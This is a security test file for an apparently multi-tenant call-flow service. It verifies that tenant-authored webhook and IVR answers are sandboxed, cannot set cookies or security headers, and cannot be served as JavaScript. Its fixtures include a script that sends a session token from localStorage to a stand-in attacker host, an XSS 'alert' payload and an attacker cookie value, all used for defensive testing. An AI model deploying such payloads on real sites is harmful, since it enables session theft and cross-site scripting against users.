/**
 * Issue 16 (High): a trigger answer is written by a tenant's admin and served on the editor's
 * origin, so it must never run script there nor set cookies or security policy for it. Every
 * webhook and IVR answer (errors, 405s, preflights and the IVR fast path included) carries
 * `Content-Security-Policy: sandbox` and `nosniff`; a respond node cannot set cookies or
 * security headers (refused at validation, dropped at run time) nor answer JavaScript.
 */
import type { Response } from 'supertest';
import { TestApp } from '../harness';
import { chainFlow, publishFlow, respondNode } from '../support/triggers';

const ORIGIN = 'https://agent.example.com';
const webhook = (config: Record<string, unknown>) => ({ id: 't', type: 'trigger.webhook', name: 'hook', config });
const textRespond = (template: string, config: Record<string, unknown> = {}, contentType?: string) => {
  const body = { type: 'text', template, ...(contentType ? { contentType } : {}) };
  return { id: 'r', type: 'respond', name: 'answer', config: { ...config, body } };
};
const getHook = (respond: ReturnType<typeof textRespond>) => chainFlow(webhook({ methods: ['GET'] }), respond);
const SCRIPT_PAGE =
  '<!doctype html><p>Caller {{request.query.caller}}</p>' +
  '<script>fetch("https://evil.example/?s="+localStorage.getItem("callflow.session"))</script>';

function expectTriggerHeaders(r: Response): void {
  expect(r.headers['content-security-policy']).toBe('sandbox');
  expect(r.headers['x-content-type-options']).toBe('nosniff');
  expect(r.headers['referrer-policy']).toBe('no-referrer');
  // Agent UIs frame these answers: no frame-ancestors, no X-Frame-Options.
  expect(r.headers['x-frame-options']).toBeUndefined();
  expect(r.headers['set-cookie']).toBeUndefined();
}

describe('security: trigger answers cannot act on the editor’s origin', () => {
  let t: TestApp;
  const hook = (path: string) => `/api/v1/hooks/${path}${path.includes('?') ? '&' : '?'}token=${t.apiKey}`;
  const ivr = (key: string) => t.http().post(`/api/v1/ivr/${key}`).set('x-api-key', t.apiKey);
  const preflight = (origin: string) =>
    t.http().options('/api/v1/hooks/page').set('origin', origin).set('access-control-request-method', 'POST');

  beforeAll(async () => {
    t = await TestApp.start({ WEBHOOK_BODY_LIMIT_BYTES: String(1024 * 1024) });
    const page = textRespond(SCRIPT_PAGE, {}, 'text/html; charset=utf-8');
    await publishFlow(t, 'page', chainFlow(webhook({ methods: ['GET', 'POST'], allowedOrigins: [ORIGIN] }), page));
    const ivrTrigger = { id: 't', type: 'trigger.ivr', name: 'ivr', config: {} };
    await publishFlow(t, 'ivr-flow', chainFlow(ivrTrigger, respondNode('{"queue":"vip"}')));
  });
  afterAll(() => t?.close());

  it('an HTML answer with a script is sandboxed, nosniff, without Referer', async () => {
    const r = await t.http().get(hook('page?caller=42')).expect(200);
    expect(r.headers['content-type']).toBe('text/html; charset=utf-8');
    expect(r.text).toContain('<script>');
    expectTriggerHeaders(r);
  });

  it('webhook errors, 405s and preflights carry the same headers', async () => {
    expectTriggerHeaders(await t.http().get('/api/v1/hooks/page').expect(401));
    expectTriggerHeaders(await t.http().get(hook('nothing')).expect(404));
    expectTriggerHeaders(await t.http().put(hook('page')).send({}).expect(405));
    expectTriggerHeaders(await preflight(ORIGIN).expect(204));
    // Refused without the tenant's key: the one uniform 404 (it tells no stranger which keys exist).
    expectTriggerHeaders(await preflight('https://evil.example').expect(404));
    const tooBig = 'x'.repeat(t.config.WEBHOOK_BODY_LIMIT_BYTES + 10);
    const big = await t.http().post(hook('page')).set('content-type', 'text/plain').send(tooBig);
    expect(big.status).toBe(413);
    expectTriggerHeaders(big);
    // Express routes case-insensitively: another spelling is still a trigger answer.
    expectTriggerHeaders(await t.http().get(`/API/V1/Hooks/page?token=${t.apiKey}`).expect(200));
  });

  it('IVR answers carry them (answers and errors, any spelling)', async () => {
    const ok = await ivr('ivr-flow')
      .send({ call: { id: 'c1' } })
      .expect(200);
    expect(ok.body).toMatchObject({ status: 'succeeded', output: { queue: 'vip' } });
    expectTriggerHeaders(ok);
    expectTriggerHeaders(await t.http().post('/api/v1/ivr/ivr-flow').send({}).expect(401));
    expectTriggerHeaders(await ivr('nothing').send({}).expect(404));
    expectTriggerHeaders(await ivr('ivr-flow').set('content-type', 'application/json').send('{bad').expect(400));
    // Another spelling Express routes: IvrPipeline answers it too (behind Express: triggers-ivr-entry-points).
    const viaNest = await t.http().post('/api/v1/IVR/ivr-flow').set('x-api-key', t.apiKey).send({}).expect(200);
    expect(viaNest.body.status).toBe('succeeded');
    expectTriggerHeaders(viaNest);
  });

  it('the validator refuses cookies, security headers and a JavaScript answer in a respond node', async () => {
    const headers = [
      { name: 'Set-Cookie', value: 'sid=x; Path=/' },
      { name: 'Content-Security-Policy', value: "script-src 'unsafe-inline'" },
      { name: 'X-Frame-Options', value: 'ALLOWALL' },
    ];
    const definition = getHook(textRespond('alert(1)', { headers }, 'application/javascript'));
    const r = await t.as('post', '/api/v1/flows/validate').send({ definition }).expect(200);
    expect(r.body.valid).toBe(false);
    const mine = r.body.errors.filter((e: { nodeId: string }) => e.nodeId === 'r');
    expect(mine.map((e: { path: string }) => e.path).sort()).toEqual([
      'config.body.contentType',
      'config.headers.0.name',
      'config.headers.1.name',
      'config.headers.2.name',
    ]);
    const created = await t.as('post', '/api/v1/flows').send({ name: 'bad', key: 'bad', definition }).expect(201);
    await t.as('post', `/api/v1/flows/${created.body.id}/publish`).send({}).expect(422);
  });

  it('a templated Content-Type cannot make an answer JavaScript: it becomes text at run time', async () => {
    const headers = [
      { name: 'Content-Type', value: '{{request.query.type}}' },
      { name: 'X-Keep', value: 'yes' },
    ];
    await publishFlow(t, 'typed', getHook(textRespond('alert(document.domain)', { headers })));
    const type = encodeURIComponent('Text/JavaScript; charset=utf-8');
    const js = await t
      .http()
      .get(hook(`typed?type=${type}`))
      .expect(200);
    expectTriggerHeaders(js);
    expect(js.headers['content-type']).toBe('text/plain; charset=utf-8');
    expect(js.headers['x-keep']).toBe('yes');
    const html = await t.http().get(hook('typed?type=text/html')).expect(200);
    expect(html.headers['content-type']).toMatch(/^text\/html/);
  });

  it('a version stored before the rule with Set-Cookie fails closed: 502 with the reason, no cookie', async () => {
    const { id } = await publishFlow(t, 'legacy', chainFlow(webhook({ methods: ['GET'] }), respondNode('{"ok":true}')));
    // As a version stored before the validator refused these would be.
    const [version] = await t.db.query(`SELECT id, definition FROM flow_versions WHERE flow_id = $1`, [id]);
    const respond = version.definition.nodes.find((n: { id: string }) => n.id === 'r');
    respond.config.headers = [{ name: 'Set-Cookie', value: 'callflow_refresh=attacker; Path=/api/v1/auth' }];
    await t.db.query(`UPDATE flow_versions SET definition = $2 WHERE id = $1`, [version.id, version.definition]);
    const r = await t.http().get(hook('legacy')).expect(502);
    expectTriggerHeaders(r);
    expect(r.body.message).toMatch(/FLOW_INVALID.*may not set cookies/);
  });
});
